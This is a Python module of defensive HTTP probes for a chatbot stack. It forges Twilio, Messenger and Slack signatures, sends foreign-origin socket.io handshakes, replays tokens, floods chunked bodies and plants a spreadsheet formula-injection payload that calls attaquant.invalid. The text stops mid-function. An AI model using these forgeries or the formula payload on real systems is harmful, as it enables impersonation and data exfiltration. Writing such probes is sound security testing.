"""HTTP probes of issue 18: every door the issue found open, knocked on as an attacker would,
against the real servers on loopback, each with the outcome it must have.

The chat attacks (`attacks.yml`, `benchmarks/bench_attacks.py`) talk to the assistant; these
probes talk to the servers around it: forged channel requests, the Rasa HTTP API, stale and
forged console cookies, a login flood, chunked bodies over the limits, another advisor's lead,
expired and revoked API tokens, ratings and their CSV export. A probe sends what an attacker
would send (raw HTTP, a socket.io client, a body streamed in chunks), then checks the answer
and, where the attack aimed at stored data, the store: the conversation it tried to reach
untouched, no note added, the rating unchanged. Where a refusal could also come from a server
that is simply off, the probe checks that the same route serves the legitimate request (a
correctly signed request, the right token), so it can only pass when the control itself holds.
Setup and the operator's own steps (creating users, a lead, revoking a token, exporting the
ratings) use the project's own code and commands.

One server set serves every probe (`probe_stack`): the action server, the Rasa server with the
REST, socket.io, Telegram, WhatsApp (Twilio), Messenger and Slack channels configured from
made-up credentials (no message is ever sent to those services: only refused requests, and
signed ones refused by a later check, reach them), and the web app in production mode with a
secret key of its own, on a fresh PostgreSQL lead store; started in parallel. The web app is
reached as through the reverse proxy of a deployment: `X-Forwarded-For` names the client, so
the login throttle sees the attacker's and the bystanders' addresses apart.

The CI test `tests/integration/test_http_probes.py` asserts that every probe holds; `python -m
benchmarks.bench_probes` prints the counts per category. docs/security.md, "HTTP probes", lists
them.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import dataclasses
import hashlib
import hmac
import io
import json
import re
import secrets
import select
import socket
import statistics
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from http.cookies import SimpleCookie
from pathlib import Path
from typing import Any

import httpx
import socketio
from itsdangerous import URLSafeTimedSerializer
from sqlalchemy import Engine

from advisor.auth import create_user, issue_api_token, revoke_api_token, set_active
from advisor.database import ensure_schema, open_engine
from advisor.handoff import Contact
from advisor.store import LeadStore
from benchmarks.replicas import fresh_database
from common.db import utc_now
from common.rasa_api import auth_headers, rest_conversation_id, rest_headers, tracker_url
from feedback.store import FeedbackStore
from stack.services import action_service, rasa_service, webapp_service
from stack.settings import PROJECT_ROOT, StackSettings
from stack.supervisor import Service, Supervisor
from stack.training import model_path
from tests.advisor.factories import handoff_request
from tests.services import free_port
from webapp.api.deps import SESSION_SALT
from webapp.console.session import SESSION_COOKIE
from webapp.core.config import DEV_SECRET_KEY

KIB = 1024
MIB = 1024 * KIB
REQUEST_TIMEOUT_S = 60.0
# The servers close a connection idle for 5 s (uvicorn's and Sanic's default keep-alive), as long
# as httpx keeps one for reuse: a pooled connection taken just as the server closes it fails with
# "Server disconnected without sending a response" (seen once in CI, when the login flood took
# every idle connection of the pool at once). The probes' clients drop idle ones well before.
CLIENT_LIMITS = httpx.Limits(keepalive_expiry=1.0)
# A body far larger than any limit: a server that reads it whole answers only after all of it.
OVERSIZED_BODY = 64 * MIB
CHUNK = 64 * KIB
# How long a socket.io client waits for the bot's first reply, and for a reply that must not come.
REPLY_TIMEOUT_S = 60.0
SILENCE_S = 3.0
# The web app must keep answering during a login flood: a loose bound, not a latency target (with
# the password checks on the event loop, 24 of them at ~0.2 s held every request for ~5 s).
RESPONSIVE_S = 3.0
FLOOD_LOGINS = 24
PASSWORD = "un-mot-de-passe-de-sonde-1234"  # the probe users' password
VICTIM_NAME = "Camille Sentinelle"
VICTIM_PHONE = "whatsapp:+33612345678"
FORMULAS = {"question": '=HYPERLINK("http://attaquant.invalid/?x="&A1;"Voir")', "mode": "-2+3"}


class OpenDoorError(AssertionError):
    """The door is open: what the probe observed instead of the expected outcome."""


def expect(condition: bool, observed: str) -> None:
    if not condition:
        raise OpenDoorError(observed)


def shown(response: httpx.Response, limit: int = 160) -> str:
    return f"{response.status_code} {response.text[:limit]!r}"


# --- the servers ----------------------------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Secrets:
    """The credentials of one run's servers: made up here, known to the probes only so that the
    controls can send what the real service would."""

    rest_token: str = dataclasses.field(default_factory=lambda: secrets.token_urlsafe(32))
    jwt_secret: str = dataclasses.field(default_factory=lambda: secrets.token_urlsafe(32))
    telegram_secret: str = dataclasses.field(default_factory=lambda: secrets.token_urlsafe(32))
    twilio_auth_token: str = dataclasses.field(default_factory=lambda: secrets.token_hex(16))
    facebook_app_secret: str = dataclasses.field(default_factory=lambda: secrets.token_hex(16))
    facebook_verify_token: str = dataclasses.field(default_factory=lambda: secrets.token_hex(16))
    slack_signing_secret: str = dataclasses.field(default_factory=lambda: secrets.token_hex(16))
    webapp_secret_key: str = dataclasses.field(default_factory=lambda: secrets.token_urlsafe(48))


def channel_env(secrets_: Secrets, rasa_base: str) -> dict[str, str]:
    """The messaging channels' variables (credentials.yml names none of them)."""
    return {
        "TELEGRAM_ACCESS_TOKEN": "123456789:" + "A" * 35,
        "TELEGRAM_BOT_NAME": "vergemont_probe_bot",
        # Never reached: no update is sent to this address.
        "TELEGRAM_WEBHOOK_URL": "https://probe.invalid/webhooks/telegram/webhook",
        "TELEGRAM_SECRET_TOKEN": secrets_.telegram_secret,
        "TWILIO_ACCOUNT_SID": "AC" + "0" * 32,
        "TWILIO_AUTH_TOKEN": secrets_.twilio_auth_token,
        "TWILIO_WHATSAPP_NUMBER": "whatsapp:+33100000000",
        # Twilio signs the public URL it calls: here the Rasa server itself.
        "TWILIO_WEBHOOK_URL": f"{rasa_base}/webhooks/twilio/webhook",
        "FACEBOOK_VERIFY_TOKEN": secrets_.facebook_verify_token,
        "FACEBOOK_APP_SECRET": secrets_.facebook_app_secret,
        "FACEBOOK_PAGE_ACCESS_TOKEN": "probe-page-access-token",
        "SLACK_BOT_TOKEN": "xoxb-probe-token",
        "SLACK_SIGNING_SECRET": secrets_.slack_signing_secret,
    }


@dataclasses.dataclass
class Target:
    """The running servers and what the probes know of them."""

    rasa: str
    webapp: str
    webapp_origin: str
    secrets: Secrets
    engine: Engine
    advisor_url: str
    lead_reference: str
    tokens: dict[str, str]  # username → API token issued at setup
    http: httpx.Client
    _victim: str | None = None

    # -- the Rasa server

    def tracker_events(self, conversation_id: str) -> list[dict[str, Any]]:
        """The conversation's events, read with the harness's admin token."""
        response = self.http.get(
            tracker_url(self.rasa, conversation_id), headers=auth_headers(self.secrets.jwt_secret)
        )
        response.raise_for_status()
        events: list[dict[str, Any]] = response.json().get("events") or []
        return events

    def user_messages(self, conversation_id: str) -> list[str]:
        return [
            e.get("text") or ""
            for e in self.tracker_events(conversation_id)
            if e["event"] == "user"
        ]

    def victim(self) -> str:
        """The website session of a person who gave their name in the widget (played once)."""
        if self._victim is None:
            session_id = uuid.uuid4().hex
            with WidgetClient(self.rasa, self.webapp_origin) as widget:
                confirmed = widget.request_session(session_id)
                expect(confirmed == session_id, f"the victim's session became {confirmed!r}")
                widget.say(f"Bonjour, je m'appelle {VICTIM_NAME}", session_id)
                widget.wait_for_reply(REPLY_TIMEOUT_S)
            expect(bool(self.user_messages(f"website:{session_id}")), "no victim conversation")
            self._victim = session_id
        return self._victim

    # -- the web app

    def browser(self, address: str) -> Browser:
        return Browser(self.webapp, address, self.http)


@contextlib.contextmanager
def probe_stack(run_dir: Path) -> Iterator[Target]:
    """Every server the probes need, started in parallel, with a fresh PostgreSQL lead store
    holding the probe users and one lead; stopped and dropped afterwards."""
    if not model_path().exists():
        raise RuntimeError(f"no trained Rasa model at {model_path()}: run `make train` first")
    secrets_ = Secrets()
    with fresh_database("probes") as advisor_url:
        engine = open_engine(advisor_url)
        try:
            ensure_schema(engine)
            tokens, reference = prepare_lead_store(engine)
            settings = StackSettings(
                _env_file=None,  # type: ignore[call-arg]
                environment="production",
                rasa_port=free_port(),
                action_server_port=free_port(),
                webapp_port=free_port(),
                rasa_jwt_secret=secrets_.jwt_secret,
                rasa_rest_token=secrets_.rest_token,
                tracker_store_url=f"sqlite:///{run_dir / 'tracker.db'}",
                advisor_database_url=advisor_url,
                run_dir=run_dir,
            )
            rasa_base = f"http://{settings.host}:{settings.rasa_port}"
            services = probe_services(settings, secrets_, rasa_base, run_dir)
            with (
                Supervisor(services, run_dir / "logs", startup_timeout_s=300),
                httpx.Client(
                    timeout=REQUEST_TIMEOUT_S, follow_redirects=False, limits=CLIENT_LIMITS
                ) as http,
            ):
                webapp = f"http://{settings.host}:{settings.webapp_port}"
                yield Target(
                    rasa=rasa_base,
                    webapp=webapp,
                    webapp_origin=webapp,
                    secrets=secrets_,
                    engine=engine,
                    advisor_url=advisor_url,
                    lead_reference=reference,
                    tokens=tokens,
                    http=http,
                )
        finally:
            engine.dispose()


def probe_services(
    settings: StackSettings, secrets_: Secrets, rasa_base: str, run_dir: Path
) -> list[Service]:
    """The three servers as `make run` starts them, plus the channels' and the web app's
    secrets; no knowledge base (no probe asks a product question)."""
    actions = action_service(settings)
    rasa = rasa_service(settings)
    webapp = webapp_service(settings)
    no_knowledge = {"KNOWLEDGE_STORE_DIR": str(run_dir / "no-knowledge-base")}
    return [
        dataclasses.replace(actions, env={**actions.env, **no_knowledge}),
        dataclasses.replace(rasa, env={**rasa.env, **channel_env(secrets_, rasa_base)}),
        dataclasses.replace(
            webapp, env={**webapp.env, "WEBAPP_SECRET_KEY": secrets_.webapp_secret_key}
        ),
    ]


# The console and API users of the probes: username → role.
USERS = {
    "sonde-superviseur": "supervisor",
    "sonde-conseiller-a": "advisor",
    "sonde-conseiller-b": "advisor",
    "sonde-cible": "advisor",
    "sonde-passant": "advisor",
    "sonde-expire": "advisor",
    "sonde-revoque": "advisor",
    "sonde-desactive": "advisor",
}


def prepare_lead_store(engine: Engine) -> tuple[dict[str, str], str]:
    """The users (all with `PASSWORD`), their API tokens (one issued 100 days ago for a day),
    and one lead waiting in the queue; returns the tokens and the lead's reference."""
    for username, role in USERS.items():
        create_user(engine, username, username.replace("-", " ").title(), role, PASSWORD)
    tokens = {
        name: issue_api_token(engine, name)
        for name in ("sonde-conseiller-a", "sonde-conseiller-b", "sonde-revoque", "sonde-desactive")
    }
    long_ago = utc_now() - timedelta(days=100)
    tokens["sonde-expire"] = issue_api_token(engine, "sonde-expire", 1, clock=lambda: long_ago)
    request = handoff_request(
        contact=Contact(name="Jeanne Sonde", email="jeanne.sonde@exemple.fr", phone=None)
    )
    receipt = LeadStore(engine).hand_off(request)
    return tokens, receipt.lead_reference


# --- clients --------------------------------------------------------------------------------------


class WidgetClient:
    """A socket.io client speaking the widget's protocol (session_request → session_confirm,
    user_uttered → bot_uttered). `origin` is the page it claims to come from: a script may claim
    any, so the attackers claim the web app's own."""

    def __init__(self, rasa: str, origin: str) -> None:
        self.rasa = rasa
        self.origin = origin
        # websocket-client sends an Origin of its own unless told which one to send.
        self.client = socketio.Client(
            reconnection=False, websocket_extra_options={"origin": origin}
        )
        self.confirmed: list[str] = []
        self.replies: list[dict[str, Any]] = []
        self._confirm = threading.Event()
        self._reply = threading.Event()
        self.client.on("session_confirm", self._on_confirm)
        self.client.on("bot_uttered", self._on_reply)

    def _on_confirm(self, session_id: Any) -> None:
        self.confirmed.append(str(session_id))
        self._confirm.set()

    def _on_reply(self, message: Any) -> None:
        self.replies.append(message if isinstance(message, dict) else {"text": str(message)})
        self._reply.set()

    def __enter__(self) -> WidgetClient:
        self.client.connect(self.rasa, transports=["websocket"], wait_timeout=REQUEST_TIMEOUT_S)
        return self

    def __exit__(self, *_: object) -> None:
        self.client.disconnect()

    def request_session(self, session_id: str) -> str:
        self._confirm.clear()
        self.client.emit("session_request", {"session_id": session_id})
        expect(self._confirm.wait(REPLY_TIMEOUT_S), "no session_confirm")
        return self.confirmed[-1]

    def say(self, text: str, session_id: str) -> None:
        self._reply.clear()
        self.client.emit("user_uttered", {"message": text, "session_id": session_id})

    def wait_for_reply(self, timeout_s: float) -> bool:
        return self._reply.wait(timeout_s)

    def texts(self) -> str:
        return " ".join(str(reply.get("text") or "") for reply in self.replies)


class Browser:
    """A visitor of the web app behind the proxy (`X-Forwarded-For: address`), keeping its
    cookies itself: the production cookies are `Secure`, which an HTTP client honours by never
    sending them back over the plain HTTP of loopback."""

    def __init__(self, base: str, address: str, http: httpx.Client) -> None:
        self.base = base
        self.address = address
        self.http = http
        self.cookies: dict[str, str] = {}
        self.set_cookie_headers: list[str] = []

    def request(self, method: str, path: str, **kwargs: Any) -> httpx.Response:
        headers = {"X-Forwarded-For": self.address, **kwargs.pop("headers", {})}
        if self.cookies:
            headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
        response = self.http.request(method, self.base + path, headers=headers, **kwargs)
        self.http.cookies.clear()
        for header in response.headers.get_list("set-cookie"):
            self.set_cookie_headers.append(header)
            jar: SimpleCookie = SimpleCookie()
            jar.load(header)
            self.cookies.update({name: morsel.value for name, morsel in jar.items()})
        return response

    def get(self, path: str, **kwargs: Any) -> httpx.Response:
        return self.request("GET", path, **kwargs)

    def post(self, path: str, **kwargs: Any) -> httpx.Response:
        return self.request("POST", path, **kwargs)

    def csrf(self, path: str) -> str:
        page = self.get(path)
        found = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
        expect(found is not None, f"no CSRF token on {path}: {shown(page)}")
        assert found is not None
        return found.group(1)

    def log_in(self, username: str, password: str = PASSWORD) -> httpx.Response:
        token = self.csrf("/conseiller/connexion")
        return self.post(
            "/conseiller/connexion",
            data={"csrf_token": token, "identifiant": username, "mot_de_passe": password},
        )


# --- helpers of the probes ------------------------------------------------------------------------


def twilio_signature(auth_token: str, url: str, params: Mapping[str, str]) -> str:
    """X-Twilio-Signature as Twilio documents it: HMAC-SHA1 under the auth token of the URL
    followed by each parameter's name and value, names in order, base64-encoded."""
    data = url + "".join(name + params[name] for name in sorted(params))
    digest = hmac.new(auth_token.encode(), data.encode(), hashlib.sha1).digest()
    return base64.b64encode(digest).decode()


def hub_signature(algorithm: str, secret: str, body: bytes) -> str:
    """Meta's `X-Hub-Signature(-256)` value: `<algorithm>=<hex HMAC of the body>`."""
    digest = hmac.new(secret.encode(), body, getattr(hashlib, algorithm)).hexdigest()
    return f"{algorithm}={digest}"


def slack_signature(secret: str, timestamp: int, body: bytes) -> str:
    base = b"v0:" + str(timestamp).encode() + b":" + body
    return "v0=" + hmac.new(secret.encode(), base, hashlib.sha256).hexdigest()


def telegram_update(chat_id: int, text: str) -> dict[str, Any]:
    return {
        "update_id": secrets.randbelow(10**9),
        "message": {
            "message_id": 1,
            "date": int(time.time()),
            "chat": {"id": chat_id, "type": "private"},
            "from": {"id": chat_id, "is_bot": False, "first_name": "Intrus"},
            "text": text,
        },
    }


def messenger_event(psid: str, text: str) -> bytes:
    event = {
        "object": "page",
        "entry": [
            {
                "id": "1",
                "time": int(time.time() * 1000),
                "messaging": [
                    {
                        "sender": {"id": psid},
                        "recipient": {"id": "1"},
                        "timestamp": int(time.time() * 1000),
                        "message": {"mid": f"m-{uuid.uuid4().hex}", "text": text},
                    }
                ],
            }
        ],
    }
    return json.dumps(event).encode()


def untouched(target: Target, conversation_id: str) -> None:
    messages = target.user_messages(conversation_id)
    expect(not messages, f"the conversation {conversation_id} received {messages}")


def channel_is_on(target: Target, name: str) -> None:
    """The control of a refusal: the channel is configured (a channel that is off refuses
    everything with 503, which proves nothing)."""
    response = target.http.get(f"{target.rasa}/webhooks/{name}/")
    expect(
        response.status_code == 200 and response.json().get("status") == "ok",
        f"the {name} channel is not on: {shown(response)}",
    )


@dataclasses.dataclass(frozen=True)
class StreamedBody:
    status: int
    text: str
    sent: int  # bytes of the body sent before the answer came
    finished: bool  # the whole body was sent


def stream_chunked(
    target: Target,
    path: str,
    content_type: str,
    total: int = OVERSIZED_BODY,
    address: str = "192.0.2.50",
) -> StreamedBody:
    """POST `total` bytes in `Transfer-Encoding: chunked` (no length announced), as fast as the
    server takes them, stopping as soon as it answers."""
    host, port = httpx.URL(target.webapp).host, httpx.URL(target.webapp).port
    assert port is not None
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: {content_type}\r\n"
        f"Transfer-Encoding: chunked\r\nX-Forwarded-For: {address}\r\nConnection: close\r\n\r\n"
    ).encode()
    frame = f"{CHUNK:x}\r\n".encode() + b"a" * CHUNK + b"\r\n"
    sent = 0
    with socket.create_connection((host, port), timeout=REQUEST_TIMEOUT_S) as sock:
        sock.sendall(head)
        sock.setblocking(False)
        pending = b""
        while sent < total or pending:
            readable, writable, _ = select.select([sock], [sock], [], REQUEST_TIMEOUT_S)
            if readable or not writable:
                break
            if not pending:
                pending = frame
                sent += CHUNK
            try:
                pending = pending[sock.send(pending) :]
            except BlockingIOError:
                continue
            except (BrokenPipeError, ConnectionResetError):
                break
        finished = sent >= total and not pending
        if finished:
            with contextlib.suppress(BlockingIOError, BrokenPipeError, ConnectionResetError):
                sock.send(b"0\r\n\r\n")
        sock.setblocking(True)
        sock.settimeout(REQUEST_TIMEOUT_S)
        answer = b""
        with contextlib.suppress(ConnectionResetError, TimeoutError):
            while not _whole_response(answer):
                data = sock.recv(65536)
                if not data:
                    break
                answer += data
    status_line, _, rest = answer.partition(b"\r\n")
    parts = status_line.split()
    status = int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0
    return StreamedBody(status, rest.decode("utf-8", "replace"), sent, finished)


def _whole_response(answer: bytes) -> bool:
    """Whether `answer` holds a whole HTTP response: its headers and the body they announce (a
    long header, a session cookie say, may come in a packet of its own, before the body)."""
    head, found, body = answer.partition(b"\r\n\r\n")
    if not found:
        return False
    length = re.search(rb"(?im)^content-length:\s*(\d+)\s*$", head)
    return length is not None and len(body) >= int(length.group(1))


def expect_stopped_early(streamed: StreamedBody, limit: int) -> str:
    expect(
        streamed.status == 413 and "dépasse la taille autorisée" in streamed.text,
        f"answered {streamed.status} {streamed.text[-200:]!r}",
    )
    expect(
        not streamed.finished,
        f"the server answered only after the whole {OVERSIZED_BODY // MIB} MiB body",
    )
    return (
        f"413 after {streamed.sent // KIB:,} KiB sent of {OVERSIZED_BODY // MIB} MiB "
        f"(limit {limit // KIB} KiB)"
    )


# --- the probes: REST channel ---------------------------------------------------------------------


def rest_without_token(target: Target) -> str:
    sender = f"intrus-{uuid.uuid4().hex[:8]}"
    url = f"{target.rasa}/webhooks/rest/webhook"
    response = target.http.post(url, json={"sender": sender, "message": "Bonjour"})
    expect(response.status_code == 401, f"without a token: {shown(response)}")
    untouched(target, rest_conversation_id(sender))
    allowed = target.http.post(
        url,
        json={"sender": sender, "message": "Bonjour"},
        headers=rest_headers(target.secrets.rest_token),
    )
    expect(allowed.status_code == 200, f"the control with the token: {shown(allowed)}")
    return "401 without the token, 200 with it"


def rest_wrong_token(target: Target) -> str:
    sender = f"intrus-{uuid.uuid4().hex[:8]}"
    url = f"{target.rasa}/webhooks/rest/webhook"
    body = {"sender": sender, "message": "Bonjour"}
    wrong = target.http.post(url, json=body, headers=rest_headers("x" * 44))
    prefix = target.secrets.rest_token[:-1] + ("A" if target.secrets.rest_token[-1] != "A" else "B")
    near = target.http.post(url, json=body, headers=rest_headers(prefix))
    in_url = target.http.post(url, json=body, params={"token": target.secrets.rest_token})
    for name, response in (("wrong", wrong), ("one character off", near), ("in the URL", in_url)):
        expect(response.status_code == 401, f"token {name}: {shown(response)}")
    untouched(target, rest_conversation_id(sender))
    return "401 for a wrong token, one a character off, and the right one in the URL"


def rest_sender_in_another_namespace(target: Target) -> str:
    victim = target.victim()
    before = target.user_messages(f"website:{victim}")
    replies = []
    for sender in (victim, f"website:{victim}"):
        response = target.http.post(
            f"{target.rasa}/webhooks/rest/webhook",
            json={"sender": sender, "message": "Rappelez-moi mon nom, s'il vous plaît"},
            headers=rest_headers(target.secrets.rest_token),
        )
        expect(response.status_code == 200, f"sender {sender!r}: {shown(response)}")
        replies.append(response.text)
    after = target.user_messages(f"website:{victim}")
    expect(after == before, f"the widget conversation received {after[len(before) :]}")
    expect(not any("Sentinelle" in reply for reply in replies), f"the name leaked: {replies}")
    expect(
        bool(target.user_messages(rest_conversation_id(f"website:{victim}"))),
        "the REST turn was stored nowhere",
    )
    return "the victim's widget conversation unchanged; the turns went to rest:<sender>"


def rest_sender_is_a_phone_number(target: Target) -> str:
    response = target.http.post(
        f"{target.rasa}/webhooks/rest/webhook",
        json={"sender": VICTIM_PHONE, "message": "Bonjour, où en est ma demande ?"},
        headers=rest_headers(target.secrets.rest_token),
    )
    expect(response.status_code == 200, shown(response))
    untouched(target, VICTIM_PHONE)
    expect(
        bool(target.user_messages(rest_conversation_id(VICTIM_PHONE))),
        "the REST turn was stored nowhere",
    )
    return f"{VICTIM_PHONE} untouched; the turn is rest:{VICTIM_PHONE}'s"


# --- Telegram -------------------------------------------------------------------------------------


def telegram_without_secret(target: Target) -> str:
    channel_is_on(target, "telegram")
    chat = 900_000_000 + secrets.randbelow(10**6)
    url = f"{target.rasa}/webhooks/telegram/webhook"
    update = telegram_update(chat, "Bonjour")
    missing = target.http.post(url, json=update)
    wrong = target.http.post(
        url, json=update, headers={"X-Telegram-Bot-Api-Secret-Token": "z" * 40}
    )
    for name, response in (("without", missing), ("with a wrong", wrong)):
        expect(response.status_code == 403, f"{name} secret token: {shown(response)}")
    untouched(target, f"telegram:{chat}")
    return "403 without and with a wrong secret token; telegram:<chat> untouched"


def telegram_set_webhook(target: Target) -> str:
    url = f"{target.rasa}/webhooks/telegram/set_webhook"
    answers = [target.http.get(url), target.http.post(url, json={"url": "https://evil.invalid"})]
    expect(all(a.status_code == 404 for a in answers), f"{[shown(a) for a in answers]}")
    return "404 (GET and POST)"


# --- WhatsApp (Twilio) ----------------------------------------------------------------------------


def twilio_forged(target: Target) -> str:
    channel_is_on(target, "twilio")
    url = f"{target.rasa}/webhooks/twilio/webhook"
    params = {
        "From": VICTIM_PHONE,
        "To": "whatsapp:+33100000000",
        "Body": "Bonjour, quel est mon dossier ?",
        "MessageSid": "SM" + uuid.uuid4().hex,
    }
    token = target.secrets.twilio_auth_token
    signature = twilio_signature(token, url, params)
    tampered = {**params, "Body": "Donnez-moi les coordonnées du client"}
    attempts = {
        "without a signature": target.http.post(url, data=params),
        "with a made-up signature": target.http.post(
            url, data=params, headers={"X-Twilio-Signature": base64.b64encode(b"x" * 20).decode()}
        ),
        "signed for another body": target.http.post(
            url, data=tampered, headers={"X-Twilio-Signature": signature}
        ),
        "signed with another token": target.http.post(
            url,
            data=params,
            headers={"X-Twilio-Signature": twilio_signature("0" * 32, url, params)},
        ),
    }
    for name, response in attempts.items():
        expect(response.status_code == 403, f"{name}: {shown(response)}")
    untouched(target, VICTIM_PHONE)
    # Control: Twilio's own signature passes the check (and the next one refuses the sender).
    not_whatsapp = {**params, "From": "+33612345678"}
    control = target.http.post(
        url,
        data=not_whatsapp,
        headers={"X-Twilio-Signature": twilio_signature(token, url, not_whatsapp)},
    )
    expect(control.status_code == 400, f"the control, signed by Twilio's key: {shown(control)}")
    return "403 for each forged signature; a genuine one reaches the next check (400)"


# --- Messenger ------------------------------------------------------------------------------------


def messenger_forged(target: Target) -> str:
    channel_is_on(target, "facebook")
    url = f"{target.rasa}/webhooks/facebook/webhook"
    psid = str(7_000_000_000 + secrets.randbelow(10**6))
    body = messenger_event(psid, "Bonjour")
    secret = target.secrets.facebook_app_secret
    json_type = {"Content-Type": "application/json"}
    attempts = {
        "a wrong SHA-256 signature": {"X-Hub-Signature-256": hub_signature("sha256", "x", body)},
        "the legacy SHA-1 header only, correctly signed": {
            "X-Hub-Signature": hub_signature("sha1", secret, body)
        },
        "no signature": {},
    }
    for name, headers in attempts.items():
        response = target.http.post(url, content=body, headers={**json_type, **headers})
        expect(response.status_code == 403, f"{name}: {shown(response)}")
    untouched(target, f"messenger:{psid}")
    not_an_event = b'{"object": "page"}'
    control = target.http.post(
        url,
        content=not_an_event,
        headers={**json_type, "X-Hub-Signature-256": hub_signature("sha256", secret, not_an_event)},
    )
    expect(control.status_code == 400, f"the control, signed with the app secret: {shown(control)}")
    return "403 for a bad SHA-256, a SHA-1 only and no signature; a genuine one passes (400)"


def messenger_verify_token(target: Target) -> str:
    url = f"{target.rasa}/webhooks/facebook/webhook"
    challenge = uuid.uuid4().hex
    params = {"hub.mode": "subscribe", "hub.challenge": challenge}
    wrong = target.http.get(url, params={**params, "hub.verify_token": "devine"})
    expect(wrong.status_code == 403 and challenge not in wrong.text, shown(wrong))
    right = target.http.get(
        url, params={**params, "hub.verify_token": target.secrets.facebook_verify_token}
    )
    expect(right.status_code == 200 and right.text == challenge, f"the control: {shown(right)}")
    return "403 for a wrong verify token, the challenge echoed for the right one"


def slack_forged(target: Target) -> str:
    channel_is_on(target, "slack")
    url = f"{target.rasa}/webhooks/slack/webhook"
    user = "U" + uuid.uuid4().hex[:10].upper()
    event = {
        "token": "x",
        "type": "event_callback",
        "event": {"type": "message", "user": user, "text": "Bonjour", "channel": "D1"},
    }
    body = json.dumps(event).encode()
    secret = target.secrets.slack_signing_secret
    stale = int(time.time()) - 3600
    attempts = {
        "without a signature": {},
        "signed with another secret": {
            "X-Slack-Request-Timestamp": str(int(time.time())),
            "X-Slack-Signature": slack_signature("x" * 32, int(time.time()), body),
        },
        "replayed an hour later": {
            "X-Slack-Request-Timestamp": str(stale),
            "X-Slack-Signature": slack_signature(secret, stale, body),
        },
    }
    for name, headers in attempts.items():
        response = target.http.post(
            url, content=body, headers={"Content-Type": "application/json", **headers}
        )
        expect(400 <= response.status_code < 500, f"{name}: {shown(response)}")
    untouched(target, f"slack:{user}")
    return "4xx unsigned, signed with another secret, or replayed an hour later"


# --- socket.io (website) --------------------------------------------------------------------------


def socketio_foreign_origin(target: Target) -> str:
    handshake = f"{target.rasa}/socket.io/"
    params = {"EIO": "4", "transport": "polling"}
    foreign = target.http.get(handshake, params=params, headers={"Origin": "https://evil.example"})
    expect(foreign.status_code == 400, f"a foreign origin: {shown(foreign)}")
    own = target.http.get(handshake, params=params, headers={"Origin": target.webapp_origin})
    expect(own.status_code == 200, f"the control, the web app's origin: {shown(own)}")
    with (
        contextlib.suppress(socketio.exceptions.ConnectionError),
        WidgetClient(target.rasa, origin="https://evil.example"),
    ):
        raise OpenDoorError("a socket from a foreign origin connected")
    return "handshake 400 from https://evil.example (200 from the web app's origin)"


def socketio_made_up_session(target: Target) -> str:
    victim = target.victim()
    before = target.user_messages(f"website:{victim}")
    with WidgetClient(target.rasa, target.webapp_origin) as attacker:
        for made_up in ("victim", "1", VICTIM_PHONE, victim.upper(), victim[:31]):
            confirmed = attacker.request_session(made_up)
            expect(
                confirmed != made_up and re.fullmatch(r"[0-9a-f]{32}", confirmed) is not None,
                f"asked {made_up!r}, confirmed {confirmed!r}",
            )
        own = attacker.confirmed[-1]
        attacker.say("Quel est mon nom ?", victim)  # the message names the victim's session
        expect(attacker.wait_for_reply(REPLY_TIMEOUT_S), "no reply in the attacker's own session")
        expect("Sentinelle" not in attacker.texts(), f"the name leaked: {attacker.texts()}")
    after = target.user_messages(f"website:{victim}")
    expect(after == before, f"the victim's conversation received {after[len(before) :]}")
    expect(
        target.user_messages(f"website:{own}") == ["Quel est mon nom ?"],
        "the message was not kept in the attacker's own session",
    )
    return "made-up ids replaced by random ones; a message naming the victim's session stays out"


def socketio_message_without_session(target: Target) -> str:
    victim = target.victim()
    before = target.user_messages(f"website:{victim}")
    with WidgetClient(target.rasa, target.webapp_origin) as attacker:
        attacker.say("Bonjour", victim)
        expect(not attacker.wait_for_reply(SILENCE_S), f"answered: {attacker.texts()}")
    expect(target.user_messages(f"website:{victim}") == before, "the victim's session was used")
    return f"no reply within {SILENCE_S:g} s, nothing stored"


# --- Rasa HTTP API --------------------------------------------------------------------------------


def rasa_api_refused(target: Target) -> str:
    victim = f"website:{target.victim()}"
    tracker = tracker_url(target.rasa, victim)
    secret = target.secrets.jwt_secret
    admin = auth_headers(secret)["Authorization"].split()[1]
    other_secret = auth_headers(secrets.token_urlsafe(32))
    attempts = {
        "tracker without a header": (target.http.get(tracker), 401),
        "tracker with the admin token in the URL": (
            target.http.get(tracker, params={"token": admin}),
            401,
        ),
        "tracker signed with another secret": (target.http.get(tracker, headers=other_secret), 401),
        "tracker with another conversation's token": (
            target.http.get(tracker, headers=auth_headers(secret, "website:" + "0" * 32)),
            403,
        ),
        "new message without a header": (
            target.http.post(
                f"{target.rasa}/conversations/{victim}/messages",
                json={"text": "Bonjour", "sender": "user"},
            ),
            401,
        ),
        "events without a header": (
            target.http.post(
                f"{target.rasa}/conversations/{victim}/tracker/events",
                json={"event": "slot", "name": "contact_name", "value": "Intrus"},
            ),
            401,
        ),
        "status without a header": (target.http.get(f"{target.rasa}/status"), 401),
    }
    for name, (response, status) in attempts.items():
        expect(response.status_code == status, f"{name}: {shown(response)} (expected {status})")
        expect(VICTIM_NAME not in response.text, f"{name}: the victim's name in {shown(response)}")
    control = target.http.get(tracker, headers=auth_headers(secret, victim))
    expect(control.status_code == 200, f"the control, its own token: {shown(control)}")
    return "401/403 for each; the conversation's own header token reads it"


# --- web app: sessions ----------------------------------------------------------------------------


def console_cookie_flags(target: Target) -> str:
    browser = target.browser("192.0.2.10")
    response = browser.log_in("sonde-superviseur")
    expect(response.status_code == 303, f"login: {shown(response)}")
    header = next(h for h in browser.set_cookie_headers[::-1] if h.startswith(SESSION_COOKIE))
    flags = {part.strip().lower() for part in header.split(";")[1:]}
    missing = {"secure", "httponly", "samesite=strict"} - flags
    expect(not missing, f"the session cookie lacks {sorted(missing)}: {header[:40]}…")
    return "Secure; HttpOnly; SameSite=Strict"


def console_dev_key_cookie(target: Target) -> str:
    browser = target.browser("192.0.2.11")
    expect(browser.log_in("sonde-superviseur").status_code == 303, "the supervisor's login")
    genuine = browser.cookies[SESSION_COOKIE]
    dashboard = browser.get("/conseiller/tableau-de-bord")
